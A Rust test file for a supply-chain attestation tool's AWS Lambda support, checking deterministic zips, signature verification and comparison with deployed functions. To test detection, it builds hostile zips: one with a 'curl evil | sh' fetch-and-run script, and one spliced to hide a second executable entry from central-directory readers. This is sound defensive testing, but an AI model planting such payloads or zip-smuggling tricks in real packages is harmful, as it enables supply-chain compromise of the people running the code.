//! Lambda from commit to running function: `attest --lambda` on a workspace with two functions
//! (deterministic zips, one attestation each), `verify ZIP` (the zip as a subject, or entry by
//! entry), and `verify --lambda-function` against the kit's fake Lambda API through the real
//! AWS SDK — every outcome, with AWS credentials that must never show.

use std::path::Path;
use std::process::Command;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use serde_json::Value;
use sha2::{Digest, Sha256};
use slsa_tests::lambda::{self as fake, Function};
use slsa_tests::{Env, FakeLambda, Project, RunOutput, run};

use crate::{codes, git, json, keygen, slsa};

/// A committed workspace with two functions, `orders` and `payments`.
fn two_functions(env: &Env) -> Project {
    let member = |name: &str| {
        format!("[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n")
    };
    let project = env
        .project()
        .file(
            "Cargo.toml",
            "[workspace]\nmembers = [\"orders\", \"payments\"]\nresolver = \"2\"\n",
        )
        .file("orders/Cargo.toml", member("orders"))
        .file(
            "orders/src/main.rs",
            "fn main() { println!(\"orders\"); }\n",
        )
        .file("payments/Cargo.toml", member("payments"))
        .file(
            "payments/src/main.rs",
            "fn main() { println!(\"payments\"); }\n",
        )
        .file(".gitignore", "/target\n")
        .build();
    crate::lock_and_fetch(env, &project);
    git(project.path(), &["init", "-q", "-b", "main"]);
    git(project.path(), &["add", "-A"]);
    git(project.path(), &["commit", "-qm", "functions"]);
    project
}

fn sha256_file(p: &Path) -> String {
    hex::encode(Sha256::digest(std::fs::read(p).expect("read file")))
}

fn code_sha256(p: &Path) -> String {
    B64.encode(Sha256::digest(std::fs::read(p).expect("read file")))
}

fn statement(path: &Path) -> Value {
    let line = std::fs::read_to_string(path).expect("attestation");
    let env: Value = serde_json::from_str(line.lines().next().expect("a line")).expect("envelope");
    serde_json::from_slice(
        &B64.decode(env["payload"].as_str().expect("payload"))
            .expect("base64"),
    )
    .expect("statement")
}

/// Everything a run printed, to check that no AWS secret shows.
fn assert_no_secrets(out: &RunOutput) {
    for secret in [fake::SECRET_ACCESS_KEY, fake::SESSION_TOKEN] {
        assert!(
            !out.stdout.contains(secret) && !out.stderr.contains(secret),
            "an AWS secret was printed: {out:?}"
        );
    }
}

/// `cargo-slsa verify ARGS` with the fake's AWS environment.
fn verify_aws(env: &Env, dir: &Path, lambda: &FakeLambda, args: &[&str]) -> RunOutput {
    verify_aws_without(env, dir, lambda, &[], args)
}

/// The same, with the variables named in `drop` left out of the environment.
fn verify_aws_without(
    env: &Env,
    dir: &Path,
    lambda: &FakeLambda,
    drop: &[&str],
    args: &[&str],
) -> RunOutput {
    let mut cmd = env.command(crate::bin(), dir);
    cmd.arg("verify").args(args);
    for (k, v) in lambda.aws_env() {
        if !drop.contains(&k) {
            cmd.env(k, v);
        }
    }
    let out = run(cmd);
    assert_no_secrets(&out);
    out
}

#[test]
fn two_functions_are_packaged_attested_verified_and_checked_against_what_lambda_runs() {
    let env = Env::new();
    let project = two_functions(&env);
    let keys = tempfile::tempdir().expect("tmp");
    let (key, public) = keygen(&env, keys.path());
    let lambda = FakeLambda::start();

    // attest --lambda, with AWS credentials in the environment that must not reach the record.
    let mut cmd = env.command(crate::bin(), project.path());
    cmd.args([
        "attest",
        "--lambda",
        "--offline",
        "--key",
        key.to_str().expect("utf-8"),
        "--format",
        "json",
    ]);
    for (k, v) in lambda.aws_env() {
        cmd.env(k, v);
    }
    let out = run(cmd).assert_success();
    assert_no_secrets(&out);
    let report = json(&out);
    let rows = report["summary"]["lambda"].as_array().expect("lambda rows");
    assert_eq!(rows.len(), 2, "{report}");
    for (row, f) in rows.iter().zip(["orders", "payments"]) {
        let zip = project.join(&format!("target/lambda/{f}/bootstrap.zip"));
        assert_eq!(row["function"], f);
        assert_eq!(row["architecture"], "x86_64");
        assert_eq!(
            row["codeSha256"],
            code_sha256(&zip).as_str(),
            "CodeSha256 is base64 of the zip's sha256"
        );
        let st = statement(&project.join(&format!("target/slsa/{f}.intoto.jsonl")));
        let subjects: Vec<(&str, &str)> = st["subject"]
            .as_array()
            .expect("subjects")
            .iter()
            .map(|s| {
                (
                    s["name"].as_str().expect("name"),
                    s["digest"]["sha256"].as_str().expect("sha"),
                )
            })
            .collect();
        let bin = project.join(&format!("target/x86_64-unknown-linux-gnu/release/{f}"));
        let zip_name = format!("target/lambda/{f}/bootstrap.zip");
        assert_eq!(
            subjects,
            [
                (f, sha256_file(&bin).as_str()),
                (zip_name.as_str(), sha256_file(&zip).as_str())
            ],
            "one attestation per function: its binary and its zip"
        );
        let ext = &st["predicate"]["buildDefinition"]["externalParameters"];
        assert_eq!(ext["lambda"]["architecture"], "x86_64");
        assert_eq!(ext["target"], "x86_64-unknown-linux-gnu");
        let text = st.to_string();
        assert!(!text.contains(fake::SECRET_ACCESS_KEY) && !text.contains(fake::SESSION_TOKEN));
        assert!(
            !text.contains(fake::ACCESS_KEY_ID),
            "no AWS variable is recorded"
        );
        assert!(project.exists(&format!("target/slsa/{f}.sigstore.json")));
    }

    // An independent reader: Python's zipfile sees one 0755 `bootstrap`, no extra fields.
    let zip = project.join("target/lambda/orders/bootstrap.zip");
    let py = Command::new("python3")
        .arg("-c")
        .arg(
            "import sys, zipfile\n\
             z = zipfile.ZipFile(sys.argv[1])\n\
             [i] = z.infolist()\n\
             print(i.filename, oct((i.external_attr >> 16) & 0o7777), i.date_time, len(i.extra), len(i.comment), len(z.comment))\n",
        )
        .arg(&zip)
        .output()
        .expect("python3 runs");
    assert!(py.status.success(), "{py:?}");
    assert_eq!(
        String::from_utf8_lossy(&py.stdout).trim(),
        "bootstrap 0o755 (2023, 11, 14, 22, 13, 20) 0 0 0",
        "one entry, mode 0755, the commit time (1700000000), nothing extra"
    );

    // The same commit at another path, later, in another time zone: the same zip bytes.
    let other = tempfile::tempdir().expect("tmp");
    let clone = other.path().join("elsewhere");
    git(
        other.path(),
        &[
            "clone",
            "-q",
            project.path().to_str().expect("utf-8"),
            "elsewhere",
        ],
    );
    std::fs::copy(project.join("Cargo.lock"), clone.join("Cargo.lock")).expect("lock");
    let mut cmd = env.command(crate::bin(), &clone);
    cmd.args([
        "attest",
        "--lambda",
        "--offline",
        "--key",
        key.to_str().expect("utf-8"),
    ])
    .env("TZ", "Pacific/Kiritimati");
    run(cmd).assert_success();
    for f in ["orders", "payments"] {
        assert_eq!(
            std::fs::read(clone.join(format!("target/lambda/{f}/bootstrap.zip"))).expect("zip"),
            std::fs::read(project.join(&format!("target/lambda/{f}/bootstrap.zip"))).expect("zip"),
            "{f}: the zip is deterministic"
        );
    }

    let pubkey = public.to_str().expect("utf-8");
    // verify ZIP: the zip is a subject.
    slsa(
        &env,
        project.path(),
        &[
            "verify",
            "target/lambda/orders/bootstrap.zip",
            "--attestation",
            "target/slsa/orders.intoto.jsonl",
            "--key",
            pubkey,
            "--source-ref",
            "refs/heads/main",
        ],
    )
    .assert_success();
    // Another function's zip is not this attestation's.
    let out = slsa(
        &env,
        project.path(),
        &[
            "verify",
            "target/lambda/payments/bootstrap.zip",
            "--attestation",
            "target/slsa/orders.intoto.jsonl",
            "--key",
            pubkey,
            "--format",
            "json",
        ],
    )
    .assert_code(1);
    assert_eq!(codes(&json(&out)), ["subject-missing"]);

    // A zip made by hand around the attested binary passes entry by entry; an extra file fails.
    let bin = project.join("target/x86_64-unknown-linux-gnu/release/orders");
    let hand = other.path().join("hand.zip");
    let extra = other.path().join("extra.zip");
    let mk = Command::new("python3")
        .arg("-c")
        .arg(
            "import sys, zipfile\n\
             b = open(sys.argv[1], 'rb').read()\n\
             with zipfile.ZipFile(sys.argv[2], 'w') as z: z.writestr('bootstrap', b)\n\
             with zipfile.ZipFile(sys.argv[3], 'w') as z:\n    z.writestr('bootstrap', b)\n    z.writestr('run.sh', 'curl evil | sh')\n",
        )
        .args([&bin, &hand, &extra])
        .output()
        .expect("python3 runs");
    assert!(mk.status.success(), "{mk:?}");
    let att = project.join("target/slsa/orders.intoto.jsonl");
    let att = att.to_str().expect("utf-8");
    slsa(
        &env,
        project.path(),
        &[
            "verify",
            hand.to_str().expect("utf-8"),
            "--attestation",
            att,
            "--key",
            pubkey,
        ],
    )
    .assert_success();
    let out = slsa(
        &env,
        project.path(),
        &[
            "verify",
            extra.to_str().expect("utf-8"),
            "--attestation",
            att,
            "--key",
            pubkey,
            "--format",
            "json",
        ],
    )
    .assert_code(1);
    assert_eq!(codes(&json(&out)), ["lambda-extra-entry"]);
    // Zips that readers would see differently are refused (exit 2), not accounted for: an entry
    // named like a directory that holds data, and a hidden local entry that only a streaming
    // reader sees (here a second `bootstrap` with other bytes, spliced before the directory).
    let tricks = other.path().join("tricks");
    std::fs::create_dir_all(&tricks).expect("mkdir");
    let mk = Command::new("python3")
        .arg("-c")
        .arg(
            "import io, struct, sys, zipfile\n\
             b = open(sys.argv[1], 'rb').read()\n\
             out = sys.argv[2]\n\
             with zipfile.ZipFile(out + '/dirdata.zip', 'w') as z:\n    z.writestr('bootstrap', b)\n    z.writestr('evil\\\\', b'#!/bin/sh\\ncurl evil | sh\\n')\n\
             good = io.BytesIO()\n\
             with zipfile.ZipFile(good, 'w') as z: z.writestr('bootstrap', b)\n\
             evil = io.BytesIO()\n\
             with zipfile.ZipFile(evil, 'w') as z: z.writestr('bootstrap', b'evil code')\n\
             e = evil.getvalue(); e_local = e[:struct.unpack('<I', e[-6:-2])[0]]\n\
             g = good.getvalue(); cd = struct.unpack('<I', g[-6:-2])[0]\n\
             spliced = g[:cd] + e_local + g[cd:-6] + struct.pack('<I', cd + len(e_local)) + g[-2:]\n\
             open(out + '/hidden.zip', 'wb').write(spliced)\n",
        )
        .arg(&bin)
        .arg(&tricks)
        .output()
        .expect("python3 runs");
    assert!(mk.status.success(), "{mk:?}");
    let out = slsa(
        &env,
        project.path(),
        &[
            "verify",
            tricks.join("dirdata.zip").to_str().expect("utf-8"),
            "--attestation",
            att,
            "--key",
            pubkey,
            "--format",
            "json",
        ],
    )
    .assert_code(1);
    assert_eq!(
        codes(&json(&out)),
        ["lambda-extra-entry"],
        "data in a directory-looking entry is a file"
    );
    let out = slsa(
        &env,
        project.path(),
        &[
            "verify",
            tricks.join("hidden.zip").to_str().expect("utf-8"),
            "--attestation",
            att,
            "--key",
            pubkey,
        ],
    );
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("belong to no entry") || out.stderr.contains("does not follow"),
        "{out:?}"
    );

    // What AWS runs. orders runs the attested zip; payments runs orders' code; a third runs
    // something else.
    let orders_code = code_sha256(&project.join("target/lambda/orders/bootstrap.zip"));
    lambda.deploy("orders", None, Function::zip(&orders_code));
    lambda.deploy(
        "orders",
        Some("live"),
        Function {
            version: "7".into(),
            ..Function::zip(&orders_code)
        },
    );
    lambda.deploy("payments", None, Function::zip(&orders_code));
    lambda.deploy(
        "rogue",
        None,
        Function::zip(&B64.encode(Sha256::digest(b"someone else's code"))),
    );
    // `verify --lambda-function FUNCTION` against the orders attestation.
    let verify_fn = |function: &str| {
        verify_aws(
            &env,
            project.path(),
            &lambda,
            &[
                "--lambda-function",
                function,
                "--attestation",
                att,
                "--key",
                pubkey,
                "--format",
                "json",
            ],
        )
    };
    let payments_att = project.join("target/slsa/payments.intoto.jsonl");
    let payments_att = payments_att.to_str().expect("utf-8");

    let out = verify_aws(
        &env,
        project.path(),
        &lambda,
        &[
            "--lambda-function",
            "orders",
            "--lambda-function",
            "orders:live",
            "--attestation",
            att,
            "--key",
            pubkey,
            "--format",
            "json",
        ],
    );
    assert_eq!(out.code, 0, "{out:?}");
    let report = json(&out);
    assert_eq!(report["summary"]["lambda"][1]["version"], "7", "{report}");
    assert!(
        lambda.requests().iter().all(|r| r.signed),
        "every request is SigV4-signed"
    );
    assert!(
        lambda
            .requests()
            .iter()
            .any(|r| r.qualifier.as_deref() == Some("live")),
        "the qualifier reaches Lambda: {:?}",
        lambda.requests()
    );
    // The zip and the function together, as the deploy job does.
    verify_aws(
        &env,
        project.path(),
        &lambda,
        &[
            "target/lambda/orders/bootstrap.zip",
            "--lambda-function",
            "arn:aws:lambda:eu-west-1:123456789012:function:orders",
            "--attestation",
            att,
            "--key",
            pubkey,
        ],
    )
    .assert_code(0);

    let out = verify_aws(
        &env,
        project.path(),
        &lambda,
        &[
            "--lambda-function",
            "payments",
            "--attestation",
            payments_att,
            "--key",
            pubkey,
            "--format",
            "json",
        ],
    );
    assert_eq!(out.code, 1, "{out:?}");
    let report = json(&out);
    assert_eq!(codes(&report), ["lambda-mismatch"]);
    let msg = report["findings"][0]["message"].as_str().expect("message");
    let deployed = code_sha256(&project.join("target/lambda/orders/bootstrap.zip"));
    let attested = code_sha256(&project.join("target/lambda/payments/bootstrap.zip"));
    assert!(
        msg.contains("payments") && msg.contains(&deployed) && msg.contains(&attested),
        "names the function, the deployed and the attested digests: {msg}"
    );
    verify_fn("rogue").assert_code(1);

    // The attested architecture must be the function's.
    lambda.deploy(
        "orders-arm",
        None,
        Function {
            architecture: "arm64".into(),
            ..Function::zip(&orders_code)
        },
    );
    let out = verify_fn("orders-arm");
    assert_eq!(codes(&json(&out)), ["lambda-arch-mismatch"], "{out:?}");

    // Code beside the attested package: a layer, LD_PRELOAD (its value, a secret perhaps, is
    // not printed).
    lambda.deploy(
        "orders-layered",
        None,
        Function {
            layers: vec!["arn:aws:lambda:eu-west-1:123456789012:layer:shim:3".into()],
            env: vec![("LD_PRELOAD".into(), "/opt/secret-shim.so".into())],
            ..Function::zip(&orders_code)
        },
    );
    let out = verify_fn("orders-layered");
    assert_eq!(out.code, 0, "a warning: {out:?}");
    let report = json(&out);
    assert_eq!(codes(&report), ["lambda-unattested-code"]);
    let msg = report["findings"][0]["message"].as_str().expect("message");
    assert!(
        msg.contains("layer:shim:3") && msg.contains("LD_PRELOAD") && !msg.contains("secret-shim"),
        "{msg}"
    );
    // Throttling once is retried by the SDK; throttling that lasts is an error, never a pass.
    lambda.throttle_next(1);
    verify_fn("orders").assert_code(0);
    lambda.throttle_next(50);
    let out = verify_fn("orders");
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("TooManyRequests") || out.stderr.contains("throttl"),
        "{out:?}"
    );
    lambda.throttle_next(0);

    // Errors are exit 2 with a clear message.
    let out = verify_fn("missing-fn");
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("ResourceNotFoundException") && out.stderr.contains("missing-fn"),
        "{out:?}"
    );
    lambda.deny("secret-fn");
    let out = verify_fn("secret-fn");
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("AccessDenied") && out.stderr.contains("lambda:GetFunction"),
        "{out:?}"
    );
    lambda.deploy(
        "image-fn",
        None,
        Function {
            package_type: "Image".into(),
            ..Function::zip(&deployed)
        },
    );
    let out = verify_fn("image-fn");
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("container image"), "{out:?}");
    // No credentials at all: the SDK's chain finds none (no metadata service, no files).
    let policy = [
        "--lambda-function",
        "orders",
        "--attestation",
        att,
        "--key",
        pubkey,
    ];
    let before = lambda.requests().len();
    let out = verify_aws_without(
        &env,
        project.path(),
        &lambda,
        &[
            "AWS_ACCESS_KEY_ID",
            "AWS_SECRET_ACCESS_KEY",
            "AWS_SESSION_TOKEN",
        ],
        &policy,
    );
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.to_lowercase().contains("credential"), "{out:?}");
    assert_eq!(lambda.requests().len(), before, "nothing unsigned was sent");
    // No region; then --region instead.
    let out = verify_aws_without(&env, project.path(), &lambda, &["AWS_REGION"], &policy);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("--region"), "{out:?}");
    let mut with_region = policy.to_vec();
    with_region.extend(["--region", fake::REGION]);
    verify_aws_without(&env, project.path(), &lambda, &["AWS_REGION"], &with_region)
        .assert_success();
    // A tampered attestation fails before anything is trusted, even if AWS runs its code.
    let mut tampered =
        std::fs::read_to_string(project.join("target/slsa/orders.intoto.jsonl")).expect("att");
    tampered = tampered.replacen("\"sig\":\"", "\"sig\":\"AAAA", 1);
    project.write("target/slsa/tampered.intoto.jsonl", tampered);
    let out = verify_aws(
        &env,
        project.path(),
        &lambda,
        &[
            "--lambda-function",
            "orders",
            "--attestation",
            "target/slsa/tampered.intoto.jsonl",
            "--key",
            pubkey,
            "--format",
            "json",
        ],
    );
    assert_eq!(out.code, 1, "{out:?}");
    assert!(codes(&json(&out)).contains(&"signature-invalid".to_string()));
}

#[test]
fn lambda_targets_are_checked_before_any_build() {
    let env = Env::new();
    let project = two_functions(&env);
    let keys = tempfile::tempdir().expect("tmp");
    let (key, _) = keygen(&env, keys.path());
    let key = key.to_str().expect("utf-8");
    // arm64 needs aarch64-unknown-linux-gnu's standard library (or a linker): this machine's
    // toolchain is x86_64 only, so it is refused before cargo builds anything.
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--lambda",
            "--lambda-arch",
            "arm64",
            "--offline",
            "--key",
            key,
        ],
    );
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("aarch64-unknown-linux-gnu")
            && (out.stderr.contains("rustup target add") || out.stderr.contains("linker")),
        "{out:?}"
    );
    assert!(
        !project.exists("target/aarch64-unknown-linux-gnu"),
        "nothing was built"
    );
    assert!(!project.exists("target/lambda"), "nothing was packaged");
    // A --target of another architecture than --lambda-arch.
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--lambda",
            "--lambda-arch",
            "x86_64",
            "--target",
            "aarch64-unknown-linux-gnu",
            "--offline",
            "--key",
            key,
        ],
    );
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("--lambda-arch"), "{out:?}");
    // A target Lambda cannot run.
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--lambda",
            "--target",
            "wasm32-unknown-unknown",
            "--offline",
            "--key",
            key,
        ],
    );
    assert_eq!(out.code, 2, "{out:?}");
    // --lambda-include: a missing file is an input error naming it, before the build.
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--lambda",
            "--lambda-include",
            "no/such.json",
            "--offline",
            "--key",
            key,
        ],
    );
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("no/such.json"), "{out:?}");
    assert!(
        !project.exists("target/x86_64-unknown-linux-gnu"),
        "nothing was built"
    );
}

#[test]
fn extra_files_are_sorted_into_every_zip_and_recorded() {
    let env = Env::new();
    let project = two_functions(&env);
    let keys = tempfile::tempdir().expect("tmp");
    let (key, public) = keygen(&env, keys.path());
    let extra = tempfile::tempdir().expect("tmp");
    std::fs::create_dir_all(extra.path().join("conf")).expect("mkdir");
    std::fs::write(extra.path().join("conf/z.json"), "{}").expect("w");
    std::fs::write(extra.path().join("conf/a.txt"), "a").expect("w");
    std::fs::write(extra.path().join("run.sh"), "#!/bin/sh\n").expect("w");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            extra.path().join("run.sh"),
            std::fs::Permissions::from_mode(0o750),
        )
        .expect("chmod");
    }
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--lambda",
            "-p",
            "orders",
            "--offline",
            "--key",
            key.to_str().expect("utf-8"),
            "--lambda-include",
            extra.path().join("run.sh").to_str().expect("utf-8"),
            "--lambda-include",
            extra.path().join("conf").to_str().expect("utf-8"),
            "--format",
            "json",
        ],
    )
    .assert_success();
    assert_eq!(
        json(&out)["summary"]["lambda"]
            .as_array()
            .expect("rows")
            .len(),
        1,
        "-p selects one function"
    );
    let zip = project.join("target/lambda/orders/bootstrap.zip");
    let py = Command::new("python3")
        .arg("-c")
        .arg("import sys, zipfile\nfor i in zipfile.ZipFile(sys.argv[1]).infolist(): print(i.filename, oct((i.external_attr >> 16) & 0o777))\n")
        .arg(&zip)
        .output()
        .expect("python3");
    assert_eq!(
        String::from_utf8_lossy(&py.stdout)
            .lines()
            .collect::<Vec<_>>(),
        [
            "bootstrap 0o755",
            "conf/a.txt 0o644",
            "conf/z.json 0o644",
            "run.sh 0o755"
        ]
    );
    let st = statement(&project.join("target/slsa/orders.intoto.jsonl"));
    let include = &st["predicate"]["buildDefinition"]["externalParameters"]["lambda"]["include"];
    assert_eq!(include.as_array().expect("include").len(), 3, "{include}");
    assert!(
        !st.to_string()
            .contains(extra.path().to_str().expect("utf-8")),
        "no machine path"
    );
    // The zip verifies as a subject; the same zip's files one by one do not (they are not
    // attested themselves): the zip is the unit.
    slsa(
        &env,
        project.path(),
        &[
            "verify",
            "target/lambda/orders/bootstrap.zip",
            "--attestation",
            "target/slsa/orders.intoto.jsonl",
            "--key",
            public.to_str().expect("utf-8"),
        ],
    )
    .assert_success();
}

#[test]
fn prebuilt_zips_named_alike_get_their_own_attestations() {
    let env = Env::new();
    let project = env
        .project()
        .file(
            "Cargo.toml",
            "[package]\nname = \"svc\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
        )
        .file("src/lib.rs", "")
        .file(".gitignore", "/target\n/dist\n")
        .build();
    crate::lock_and_fetch(&env, &project);
    git(project.path(), &["init", "-q", "-b", "main"]);
    git(project.path(), &["add", "-A"]);
    git(project.path(), &["commit", "-qm", "svc"]);
    project.write("dist/a/bootstrap.zip", "PK a");
    project.write("dist/b/bootstrap.zip", "PK b");
    let keys = tempfile::tempdir().expect("tmp");
    let (key, public) = keygen(&env, keys.path());
    let key = key.to_str().expect("utf-8");
    for f in ["a", "b"] {
        slsa(
            &env,
            project.path(),
            &[
                "attest",
                "--artifact",
                &format!("dist/{f}/bootstrap.zip"),
                "--key",
                key,
                "--offline",
            ],
        )
        .assert_success();
    }
    // Named after the function's directory: neither replaced the other.
    for f in ["a", "b"] {
        slsa(
            &env,
            project.path(),
            &[
                "verify",
                &format!("dist/{f}/bootstrap.zip"),
                "--attestation",
                &format!("target/slsa/{f}.intoto.jsonl"),
                "--key",
                public.to_str().expect("utf-8"),
            ],
        )
        .assert_success();
    }
    // A prebuilt binary named `bootstrap` is packaged for the function its directory names.
    project.write("dist/payments/bootstrap", "\x7fELF pretend");
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--lambda",
            "--artifact",
            "dist/payments/bootstrap",
            "--key",
            key,
            "--offline",
            "--format",
            "json",
        ],
    )
    .assert_success();
    assert_eq!(json(&out)["summary"]["lambda"][0]["function"], "payments");
    assert!(project.exists("target/lambda/payments/bootstrap.zip"));
    assert!(project.exists("target/slsa/payments.intoto.jsonl"));
    // Two binaries for one function name: refused, nothing replaced.
    project.write("dist/x/payments/bootstrap", "\x7fELF other");
    let before = project.read("target/slsa/payments.intoto.jsonl");
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--lambda",
            "--artifact",
            "dist/payments/bootstrap",
            "--artifact",
            "dist/x/payments/bootstrap",
            "--key",
            key,
            "--offline",
        ],
    );
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr
            .contains("both be the Lambda function `payments`"),
        "{out:?}"
    );
    assert_eq!(project.read("target/slsa/payments.intoto.jsonl"), before);
    // Both in one run: subjects named by path, one attestation.
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--artifact",
            "dist/a/bootstrap.zip",
            "--artifact",
            "dist/b/bootstrap.zip",
            "--key",
            key,
            "--offline",
            "--name",
            "both",
        ],
    )
    .assert_success();
    let _ = out;
    let st = statement(&project.join("target/slsa/both.intoto.jsonl"));
    assert_eq!(st["subject"][0]["name"], "dist/a/bootstrap.zip");
    assert_eq!(st["subject"][1]["name"], "dist/b/bootstrap.zip");
    // An explicit --name that would replace another artifact's attestation is refused.
    let before = project.read("target/slsa/a.intoto.jsonl");
    project.write("dist/c/other.zip", "PK c");
    let out = slsa(
        &env,
        project.path(),
        &[
            "attest",
            "--artifact",
            "dist/c/other.zip",
            "--name",
            "a",
            "--key",
            key,
            "--offline",
        ],
    );
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("already attests other artifacts"),
        "{out:?}"
    );
    assert_eq!(
        project.read("target/slsa/a.intoto.jsonl"),
        before,
        "untouched"
    );
}
